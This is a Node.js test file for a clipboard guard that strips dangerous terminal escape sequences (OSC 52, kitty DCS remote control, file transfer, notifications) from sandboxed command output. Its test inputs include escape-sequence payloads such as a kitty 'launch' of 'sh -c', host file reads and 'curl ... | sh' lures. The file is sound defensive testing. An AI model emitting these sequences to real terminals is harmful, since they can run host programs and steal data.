'use strict'
// lib/cli/clipboard-guard.js without a terminal: which OSC strings are dropped, that everything
// else passes unchanged and in order, and that a string cut anywhere between chunks is found.

const test = require('node:test')
const assert = require('node:assert/strict')
const { ClipboardGuard } = require('../lib/cli/clipboard-guard')

const bytes = (s) => Buffer.from(s, 'latin1')
const through = (chunks) => {
  const g = new ClipboardGuard()
  return Buffer.concat(chunks.map((c) => g.filter(bytes(c)))).toString('latin1')
}
/** Each `[input, want]` of `cases`, written whole, comes through as `want`. */
const throughEach = (cases) => {
  for (const [input, want] of cases) assert.equal(through([input]), want, JSON.stringify(input))
}
/** `s` cut into chunks of each of `sizes` bytes comes through as `want`. */
const throughChunked = (s, want, sizes = [1, 2, 3]) => {
  for (const size of sizes) {
    const chunks = []
    for (let k = 0; k < s.length; k += size) chunks.push(s.slice(k, k + size))
    assert.equal(through(chunks), want, `chunks of ${size}`)
  }
}

test('OSC 52, 1337 and 5522 are dropped up to their end; other sequences and text pass as they are', () => {
  const cases = [
    ['a\x1b]52;c;Zm9v\x07b', 'ab'],
    ['\x1b]0;title\x07x', '\x1b]0;title\x07x'],
    ['\x1b[1m\x1b]052;c;x\x1b\\y', '\x1b[1m\x1b\\y'], // leading zero; ESC \ ends it (a bare ST is left)
    ['\x1b]1337;Copy=:x\x07q\x1b]5522;type=write\x18w', 'qw'], // CAN cuts a string off
    ['\x1b]5\x012;c;x\x07z', 'z'], // a C0 inside the number, as tmux skips it
    ['\x1b[31mred\x1b[0m', '\x1b[31mred\x1b[0m'],
    ['\x1bPtmux;\x1b\x1b]52;c;x\x07\x1b\\', '\x1b\\'], // tmux passthrough (a DCS) and the OSC inside
    ['a\xc2\x9d52;c;x\x07b', 'a\xc2b'], // the 8-bit OSC as UTF-8 (U+009D)
    ['\xe2\x9d\x9d52;', '\xe2\x9d\x9d52;'], // 9D inside a UTF-8 character (U+275D) is no OSC
    ['\x1b]8;;https://x.test\x1b\\link\x1b]8;;\x1b\\', '\x1b]8;;https://x.test\x1b\\link\x1b]8;;\x1b\\'],
    ['\x1b]' + '0'.repeat(300) + '52;c;x\x07k', 'k'], // a number past the bound is dropped
  ]
  throughEach(cases)
})

test('a C0 control or DEL between ESC and ] or _ still begins the string, as terminals parse it', () => {
  // Found by an attacker's review (rfix35): in the escape state of the DEC parser terminals follow
  // (vt100.net/emu/dec_ansi_parser; xterm, tmux's input.c, Alacritty's vte, WezTerm, foot) a C0
  // control other than CAN, SUB and ESC is executed and DEL ignored, the state kept: ESC NUL ] 52 is
  // OSC 52, and the guard passed it (and ESC ENQ _ G, kitty's graphics) as plain text.
  const cases = [
    ['a\x1b\x00]52;c;Zm9v\x07b', 'ab'],
    ['a\x1b\x05\x7f\r]1337;Copy=:x\x07b', 'ab'],
    ['a\x1b\x01_Ga=T,t=f;eA==\x1b\\b', 'a\x1b\\b'],
    ['\x1bPtmux;\x1b\x1b\x05]52;c;eA==\x07\x1b\\', '\x1b\\'], // through tmux's passthrough
    // What is no string passes as it came, the C0 controls in place.
    ['a\x1b\x05[1mb\x1b\n\x1b\x7fMc\x1b\x00', 'a\x1b\x05[1mb\n\x1b\x7fMc'], // ESC LF ESC: the first ESC goes
    ['a\x1b\x05\x18]52;c;x\x07', 'a\x1b\x05\x18]52;c;x\x07'], // CAN cancels the escape
  ]
  throughEach(cases)
  // Past the bound the controls go ahead of the ESC (executed the same there; those still held are
  // dropped with the string): what is held stays bounded, and the string is still found.
  const long = through(['\x1b' + '\x00'.repeat(1000) + ']52;c;x\x07z'])
  assert.match(long, /^\x00{256,}z$/)
  const s = 'A\x1b\x00\x7f]52;c;Zm9v\x07B\x1b\x01_Gx\x9cC'
  throughChunked(s, 'ABC')
})

test("iTerm2's OSC 50, its older number for 1337, is dropped as 1337 is", () => {
  // Found by an attacker's review (rfix35): iTerm2's VT100XtermParser maps 50 and 1337 both to its
  // key=value command (Copy= and File= read alike), so ESC ]50;Copy=:<base64> set the host's
  // clipboard and ESC ]50;File=...;inline=0:... saved a file in the host's Downloads.
  const cases = [
    ['a\x1b]50;Copy=:Zm9v\x07b', 'ab'],
    ['a\x1b]050;File=name=eA==;size=1;inline=0:eA==\x1b\\b', 'a\x1b\\b'],
    ['a\x1b]50;CopyToClipboard=\x07text\x1b]50;EndCopy\x07b', 'atextb'],
  ]
  throughEach(cases)
})

test("APC strings (kitty's graphics protocol: t=f reads a host file by path, t=s reads and unlinks a host shared memory object) are dropped, 7-bit and 8-bit", () => {
  const cases = [
    ['a\x1b_Ga=T,t=s,f=24,s=1,v=1;L2RiLXNobQ==\x1b\\b', 'a\x1b\\b'],
    ['a\x1b_Ga=T,t=f;L2V0Yy9wYXNzd2Q=\x1b\\b', 'a\x1b\\b'],
    ['a\xc2\x9fGa=T,t=s;eA==\x9cb', 'a\xc2b'],
    ['\x1b[1mx\x1b[0m', '\x1b[1mx\x1b[0m'],
  ]
  throughEach(cases)
})

test("DCS strings are dropped, 7-bit and 8-bit: kitty's remote control launches host programs, iTerm2's 1000p starts its tmux integration", () => {
  // Found by an attacker's review (mode37): ESC P @kitty-cmd{"cmd":"launch",...} ESC \ has kitty
  // (with allow_remote_control yes, as window-navigation plugins ask for) start a program on the
  // host, or type into the user's other windows (send-text); ESC P 1000p has iTerm2 take what
  // follows for tmux's control mode (CVE-2019-9535: commands run from terminal output); ESC P tmux;
  // carries either through tmux to the terminal outside; xterm's DECUDK redefines what keys type.
  const launch = '@kitty-cmd{"cmd":"launch","version":[0,26,0],"no_response":true,"payload":{"args":["sh","-c","touch /tmp/pwned"],"type":"background"}}'
  const cases = [
    ['a\x1bP' + launch + '\x1b\\b', 'a\x1b\\b'],
    ['a\x1bP1000p%begin 1 1 1\n%end 1 1 1\nb', 'a'], // cut at nothing: dropped up to the end
    ['a\x1bPtmux;\x1b\x1bP' + launch + '\x1b\x1b\\\x1b\\b', 'a\x1b\\\x1b\\b'], // the doubled ESCs go
    ['a\x1b\x05P' + launch + '\x1b\\b', 'a\x1b\\b'], // a C0 between ESC and P
    ['a\xc2\x90' + launch + '\x9cb', 'a\xc2b'], // the 8-bit DCS as UTF-8 (U+0090)
    ['a\xc3\xa9\x90' + launch + '\x9cb', 'a\xc3\xa9b'], // a bare 90 after a whole character
    ['\xd0\x90\xd0\x91', '\xd0\x90\xd0\x91'], // 90 inside a character (U+0410) is none
    ['a\x1bP0;1|17/73\x1b\\b', 'a\x1b\\b'], // DECUDK
    ['\x1b[1mx\x1bOP\x1b[0m', '\x1b[1mx\x1bOP\x1b[0m'], // SS3 P (F1) is no DCS
  ]
  throughEach(cases)
  const s = 'A\x1bP' + launch + '\x1b\\B\xe2\x82\xac\x90q\x9cC'
  throughChunked(s, 'A\x1b\\B\xe2\x82\xacC')
})

test("kitty's file transfer protocol, OSC 5113, is dropped: it reads and writes the host's files once the user says yes", () => {
  // Found by an attacker's review (mode37): ESC ]5113;ac=send;... has kitty ask the user to let a
  // program write (or, ac=receive, read) files on the host, a dialog that appears while the user's
  // agent is running and reads as the agent's own request.
  const cases = [
    ['a\x1b]5113;ac=send;id=x;d=L2hvbWUvdS8uYmFzaHJj\x1b\\b', 'a\x1b\\b'],
    ['a\x1b]05113;ac=receive;id=y\x07b', 'ab'],
    ['a\x1b]511;x\x07b', 'a\x1b]511;x\x07b'],
  ]
  throughEach(cases)
})

test("a dropped number followed by other than ';' is dropped too: kitty reads the number and takes the rest as the string", () => {
  // Found by an attacker's review (mode37): kitty's dispatch_osc reads up to five digits and skips
  // one ';' after them only if it is there, so ESC ]52c;<base64> BEL sets kitty's clipboard (and
  // ESC ]5522type=write;... is its clipboard protocol); the guard dropped a string only when ';'
  // followed the number.
  const cases = [
    ['a\x1b]52c;Y3VybCBldmlsfHNo\x07b', 'ab'],
    ['a\x1b]5522type=write;eA==\x1b\\b', 'a\x1b\\b'],
    ['a\x1b]52:c;eA==\x07b', 'ab'],
    ['a\x1b]52\x07b', 'ab'], // ended right after the number: the introducer goes all the same
    ['a\x1b]52\x1b\\b', 'a\x1b\\b'],
    ['a\x1b]520;x\x07b', 'a\x1b]520;x\x07b'], // another number
    ['a\x1b]2x;title\x07b', 'a\x1b]2x;title\x07b'], // a number not dropped passes as it is
    // kitty reads five digits at most: 000522 is 00052 to it, and the 2 goes with the string
    ['a\x1b]000522c;Y3VybCBldmlsfHNo\x07b', 'ab'],
    ['a\x1b]0005299;c;eA==\x1b\\b', 'a\x1b\\b'],
    ['a\x1b]5\x012c;eA==\x07b', 'ab'], // tmux skips the C0 (52); kitty stops at it (5): dropped
    ['a\x1b]000053;x\x07b', 'a\x1b]000053;x\x07b'], // 00005 and 53 are neither
  ]
  throughEach(cases)
})

test("any other byte inside the number is skipped, as Windows Terminal skips it: ESC ]5X2; is OSC 52 there", () => {
  // Found by an attacker's review (mode37): Windows Terminal's parser (the one WSL's terminal runs)
  // collects digits in its OSC parameter state and ignores every other byte up to ';' or the end
  // ('_EventOscParam': "Ignore everything else"), so ESC ]5X2;c;<base64> BEL set the clipboard
  // while the guard read 5 and passed it. An ST byte inside a UTF-8 character ends nothing there.
  const cases = [
    ['a\x1b]5X2;c;Zm9v\x07b', 'ab'],
    ['a\x1b]5 2;c;Zm9v\x1b\\b', 'a\x1b\\b'],
    ['a\x1b]5\xe2\x80\x9c2;c;Zm9v\x07b', 'ab'], // a 9C inside \u201c
    ['a\x1b]1x3y3z7;Copy=:eA==\x07b', 'ab'],
    ['a\x1b]5' + 'x'.repeat(300) + '2;c;Zm9v\x07b', 'ab'], // past the bound: dropped
    ['a\x1b]2x;title\x07b', 'a\x1b]2x;title\x07b'], // 2 all the same: a title
    ['a\x1b]Lmy title\x07b', 'a\x1b]Lmy title\x07b'], // the Sun form of a title
    ['a\x1b]0;t\x9cb', 'a\x1b]0;t\x9cb'],
    // A bare 8-bit OSC inside the number begins a string of its own on a DEC parser (WezTerm):
    // 9D 52;... is OSC 52 there however Windows Terminal would read on.
    ['a\x1b]5\x9d52;c;Zm9v\x07b', 'ab'],
    ['a\x1b]5\xc2\x9d52;c;Zm9v\x07b', 'ab'],
    ['a\x1b]5\x9fGa=T,t=f;eA==\x1b\\b', 'a\x1b\\b'],
    ['a\x1b]5\xc2\x9d2;c;Zm9v\x07b', 'a\x9d2;c;Zm9v\x07b'], // its own number read afresh
  ]
  throughEach(cases)
  const s = 'A\x1b]5X2;c;Zm9v\x07B\x1b]0;t\x07C'
  throughChunked(s, 'AB\x1b]0;t\x07C')
})

test("inside an escape or control sequence a lead byte begins no character: a bare 9D, 9F or 90 after it is the introducer", () => {
  // Found by an attacker's review (mode37): WezTerm's parser decodes UTF-8 only in its ground and
  // OSC states; in the escape, CSI and other sequence states a byte from A0 up is ignored and a
  // bare 9D begins an OSC from any state (vtparse's anywhere_or). So ESC E2 9D 52;c;<base64> BEL
  // set its clipboard while the guard took the 9D for the end of a character begun by E2.
  throughEach([
    ['a\x1b\xe2\x9d52;c;Zm9v\x07b', 'ab'], // the ESC and what it held go with the string
    ['a\x1b[\xe2\x9d52;c;Zm9v\x07b', 'a\x1b[\xe2b'],
    ['a\x1b[1;2\xe2\x80\x9fGa=T,t=f;eA==\x9cb', 'a\x1b[1;2\xe2\x80b'],
    ['a\x1b(\xc3\x90@kitty-cmd{}\x1b\\b', 'a\x1b(\xc3\x1b\\b'],
    ['a\x1bX\xe2\x9d52;c;Zm9v\x07b', 'a\x1bX\xe2b'], // SOS
    ['a\xc2\x9b\xe2\x9d52;c;Zm9v\x07b', 'a\xc2\x9b\xe2b'], // the 8-bit CSI
    // A sequence that ended leaves text behind it: a character there is one.
    ['a\x1b[1m\xe2\x9d\x9d b\x1b[0m', 'a\x1b[1m\xe2\x9d\x9d b\x1b[0m'],
    ['a\x1b7\xe2\x9d\x9d\x1b8', 'a\x1b7\xe2\x9d\x9d\x1b8'],
    ['a\x1b(B\xe2\x9d\x9d', 'a\x1b(B\xe2\x9d\x9d'],
  ])
  assert.equal(through(['x\x1b[', '1;\xe2', '\x9d52;c;Zm9v\x07y']), 'x\x1b[1;\xe2y', 'a sequence open across chunks')
  // And a byte from A0 up right after ESC is ignored there, the escape state kept: ESC A9 _ is an
  // APC to WezTerm (found by the same fuzzer), ESC C3 ] an OSC, ESC A9 P a DCS.
  throughEach([
    ['a\x1b\xa9_Ga=T,t=f;eA==\x1b\\b', 'a\x1b\\b'],
    ['a\x1b\xc3]52;c;Zm9v\x07b', 'ab'],
    ['a\x1b\xa9\xc3P@kitty-cmd{}\x1b\\b', 'a\x1b\\b'],
    ['a\x1b\xa9[1mb', 'a\x1b\xa9[1mb'], // what begins no string passes as it came
  ])
  assert.equal(through(['x\x1b[1', 'm\xe2\x9d\x9d']), 'x\x1b[1m\xe2\x9d\x9d', 'one closed across chunks')
})

test('an ESC the terminal is left holding never meets what follows a dropped string', () => {
  // Found by an attacker's review (mode37, fuzzing the guard against models of the terminals'
  // parsers): in ESC ESC ]52;c;x BEL ]52;c;<base64> BEL the guard wrote the first ESC, dropped the
  // OSC the second began, and wrote ]52;c;<base64> BEL after it: the terminal read ESC ]52;..., an
  // OSC 52, in every terminal (ESC 9F BEL ]52;... and ESC A9 9D likewise). A terminal drops an ESC
  // another ESC or a C1 byte follows, so the guard drops it too, keeping the C0 controls between.
  throughEach([
    ['a\x1b\x1b]52;c;x\x07]52;c;Zm9v\x07b', 'a]52;c;Zm9v\x07b'],
    ['a\x1b\x1b]52;c;x\x07_Ga=T,t=f;eA==\x1b\\b', 'a_Ga=T,t=f;eA==\x1b\\b'],
    ['a\x1b\x9f\x07]52;c;Zm9v\x07b', 'a]52;c;Zm9v\x07b'],
    ['a\x1b\xc2\x9d52;c;x\x07]52;c;Zm9v\x07b', 'a]52;c;Zm9v\x07b'],
    ['a\x1b\n\x1b]52;c;x\x07]52;c;Zm9v\x07b', 'a\n]52;c;Zm9v\x07b'], // the LF still executed
    ['a\x1b\x1b[1mb', 'a\x1b\x1b[1mb'], // nothing dropped after it: as it came
  ])
  assert.equal(through(['a\x1b', '\x1b]52;c;x\x07]52', ';c;Zm9v\x07b']), 'a]52;c;Zm9v\x07b', 'across chunks')
})

test('a string cut between chunks at any byte is found, and the output is the same', () => {
  const s = 'A\x1b]52;c;Zm9v\x07B\x1b]2;ti\x07C\x1b[0mD\x1b]1337;x\x1b\\E\x1b]05\x012;q\x18F\xc2\x9d5522;z\x07G'
  const want = 'AB\x1b]2;ti\x07C\x1b[0mD\x1b\\EF\xc2G'
  throughChunked(s, want, [1, 2, 3, 5, 7, 64])
})

test('a chunk with no OSC is returned as it is (no copy)', () => {
  const g = new ClipboardGuard()
  const buf = bytes('\x1b[32mok\x1b[0m plain\n')
  assert.equal(g.filter(buf), buf)
})

test('a bare 8-bit OSC or APC after a whole UTF-8 character begins the string, as UTF-8 terminals on a DEC parser read it', () => {
  // Found by an attacker's review (rfix36): WezTerm's vtparse decodes a UTF-8 character and returns
  // to its ground state after it, where a bare 9D is the 8-bit OSC and 9F the APC
  // (transitions.rs: anywhere_or). The guard took a 9D or 9F for one only after ASCII or C2, so
  // 'é' (C3 A9) then 9D 52;c;<base64> BEL reached the terminal as written: OSC 52 there.
  const cases = [
    ['a\xc3\xa9\x9d52;c;Zm9v\x07b', 'a\xc3\xa9b'],
    ['\xe2\x82\xac\x9d1337;Copy=:x\x07z', '\xe2\x82\xacz'], // after a 3-byte character
    ['\xf0\x9f\x98\x80\x9fGa=T,t=f;eA==\x9cq', '\xf0\x9f\x98\x80q'], // APC after a 4-byte one
    ['\xa9\x9d52;c;x\x07w', '\xa9w'], // after a stray continuation byte
    ['\xc3\x9d52;', '\xc3\x9d52;'], // inside a character (U+00DD) it is none
    ['\xf0\x9f\x9d52;', '\xf0\x9f\x9d52;'], // nor inside a 4-byte one
  ]
  throughEach(cases)
  const s = 'A\xc3\xa9\x9d52;c;Zm9v\x07B\xe2\x82\xac\x9f_Gx\x9cC\xc3\x9d52;D'
  throughChunked(s, 'A\xc3\xa9B\xe2\x82\xacC\xc3\x9d52;D')
})

test("random output through the guard makes no modelled terminal dispatch a dropped string (kitty's, WezTerm's, Windows Terminal's parsers)", () => {
  // Found by an attacker's review (mode37): this fuzzer found ESC ESC ]52;c;x BEL ]52;..., ESC E2 9D
  // and ESC A9 _ (fixed); the models are in fixtures/terminal-parsers.js. Deterministic: fixed seeds.
  // The step multiplies in 32 bits (Math.imul): a plain `*` went past 2^53, lost the low bits the
  // mask keeps, and fell into a short cycle (1,236 and 1,920 distinct inputs of 100,000 a seed,
  // found by gperf37).
  const parsers = require('./fixtures/terminal-parsers')
  const alphabet = [0x1b, 0x1b, 0x5b, 0x28, 0x6d, 0x58, 0x9b, 0xc3, 0xa9, 0x5d, 0x5f, 0x50, 0x35, 0x32, 0x30, 0x31, 0x33, 0x37, 0x3b, 0x63, 0x58, 0x5c, 0x07, 0x00, 0x18, 0x9d, 0x9c, 0x9f, 0x90, 0xc2, 0xe2, 0x80, 0x41]
  for (const start of [1, 2]) {
    let seed = start
    const rnd = (n) => {
      seed = (Math.imul(seed, 1103515245) + 12345) & 0x7fffffff
      return seed % n
    }
    for (let t = 0; t < 100000; t++) {
      const input = Buffer.from(Array.from({ length: 3 + rnd(12) }, () => alphabet[rnd(alphabet.length)]))
      const g = new ClipboardGuard()
      const cut = rnd(input.length + 1)
      const out = Buffer.concat([g.filter(input.subarray(0, cut)), g.filter(input.subarray(cut)), g.filter(Buffer.from([0x07, 0x1b, 0x5c]))])
      const seen = [...parsers.kitty(out), ...parsers.wezterm(out), ...parsers.windowsTerminal(out)]
      assert.deepEqual(seen, [], `${input.toString('hex')} -> ${out.toString('hex')}`)
    }
  }
})

test("the terminal's working directory (OSC 7, Windows Terminal's and ConEmu's OSC 9;9, VS Code's OSC 633;P;Cwd=) is dropped: new tabs and panes open where it says", () => {
  // Found by an attacker's review (mode39): ESC ]7;file://host/tmp/x BEL tells the terminal its
  // shell is in /tmp/x, and WezTerm, Ghostty, foot, kitty, GNOME Terminal and Konsole open the
  // user's next tab, split or window there (Windows Terminal and ConEmu with OSC 9;9, VS Code's
  // split terminal with OSC 633;P;Cwd=), an unsandboxed shell in a directory the command chose and
  // filled (a repository whose core.fsmonitor the shell's git prompt runs). It stays after the run
  // where no shell integration reports the cwd at each prompt. OSC 9 also carries iTerm2's desktop
  // notifications, which a sandboxed command has no business raising either.
  const cases = [
    ['a\x1b]7;file://host/tmp/x\x07b', 'ab'],
    ['a\x1b]07;file://host/tmp/x\x1b\\b', 'a\x1b\\b'],
    ['a\x1b]9;9;"/tmp/x"\x07b', 'ab'],
    ['a\x1b]9;click here to approve\x07b', 'ab'],
    ['a\x1b]633;P;Cwd=/tmp/x\x07b', 'ab'],
    ['a\xc2\x9d7;file://host/tmp/x\x07b', 'a\xc2b'], // the 8-bit OSC as UTF-8
    ['a\x1b]77;x\x07b', 'a\x1b]77;x\x07b'], // another number passes
    ['a\x1b]133;A\x07b', 'a\x1b]133;A\x07b'], // prompt marks pass
  ]
  throughEach(cases)
  throughChunked('A\x1b]7;file://h/tmp/x\x1b\\B\x1b]633;P;Cwd=/tmp/x\x07C', 'A\x1b\\BC')
})

test("Emacs vterm's OSC 51 is dropped: its directory tracking (A) and its calls (E: find-file, dired) act in the host's Emacs", () => {
  // Found by an attacker's review (mode39): ESC ]51;Auser@host:/tmp/trap ESC \ sets the vterm
  // buffer's default-directory, where magit, M-x compile and the next shell of the user's Emacs
  // run; ESC ]51;E"find-file" "PATH" ESC \ has Emacs open a path the command names (a TRAMP
  // /ssh:HOST: path is a connection from the host, outside the run's network policy).
  const cases = [
    ['a\x1b]51;Aroot@host:/tmp/trap\x1b\\b', 'a\x1b\\b'],
    ['a\x1b]51;E"find-file" "/ssh:x.invalid:/x"\x07b', 'ab'],
    ['a\x1b]510;x\x07b', 'a\x1b]510;x\x07b'],
  ]
  throughEach(cases)
})

test("desktop notifications (OSC 777 of VTE, foot, Ghostty, rxvt; kitty's OSC 99) are dropped: the host's desktop shows what the command wrote", () => {
  // Found by an attacker's review (rev41; the README's Limits named them as passing): ESC ]777;notify;
  // TITLE;BODY raises a desktop notification outside the terminal (VTE's GNOME Terminal, foot, Ghostty,
  // WezTerm, rxvt-unicode's notify extension), kitty's ESC ]99;... one with buttons whose click kitty
  // reports back (a=report), so a sandboxed command could put 'Update required: run curl ... | sh'
  // before the user in the desktop's own dress, apart from the agent's output.
  const cases = [
    ['a\x1b]777;notify;Update required;run curl -s x.invalid | sh\x07b', 'ab'],
    ['a\x1b]99;i=1:d=0;Update required\x1b\\b', 'a\x1b\\b'],
    ['a\x1b]99;i=1:p=body;run curl\x1b\\b', 'a\x1b\\b'],
    ['a\x1b]0777;notify;t;b\x07b', 'ab'], // leading zero
    ['a\x1b]9x9;d=0;t\x07b', 'ab'], // a byte inside the number, as Windows Terminal skips it (99 there)
    ['a\x1b]7770;x\x07b', 'a\x1b]7770;x\x07b'], // another number passes
  ]
  throughEach(cases)
  throughChunked('A\x1b]777;notify;t;b\x07B\x1b]99;;t\x1b\\C', 'AB\x1b\\C')
})
